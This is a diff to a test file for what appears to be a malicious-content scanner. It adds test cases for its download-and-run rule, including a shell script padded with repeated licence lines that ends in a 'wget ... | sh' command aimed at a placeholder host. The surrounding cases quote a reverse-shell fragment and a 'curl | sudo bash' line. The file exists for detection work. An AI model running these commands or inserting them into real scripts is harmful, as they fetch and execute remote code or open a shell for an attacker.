@@ -67,6 +67,12 @@ def test_the_test_string_inside_other_content_is_no_test_file(analyze):
             "Unix_Reverse_Shell",
             b"s=socket.socket();s.connect(a);os.dup2(s.fileno(),0);pty.spawn('/bin/sh')",
         ),
+        (
+            "Shell_Download_And_Run",
+            b"#!/bin/sh\n"
+            + b"# a licence\n" * 400
+            + b"wget -qO- http://e.example|sh\n",
+        ),
         ("Shell_Download_And_Run", b"curl -s https://e.example/i.sh | sudo bash"),
         (
             "Windows_Script_Downloader",
@@ -109,6 +115,8 @@ def test_each_rule_finds_what_it_is_for(analyze, rule: str, data: bytes):
         b"a text about /S /Launch" + bytes(1024) + b"%PDF-",
         b"\x7fELF" + bytes(100),
         b"MZ" + bytes(200),
+        b"To install it, run curl https://e.example/i.sh | sh\n"
+        + b"It is good.\n" * 400,
         b"conn = socket.socket()\nos.dup2(conn.fileno(), 7)\n",
     ],
 )
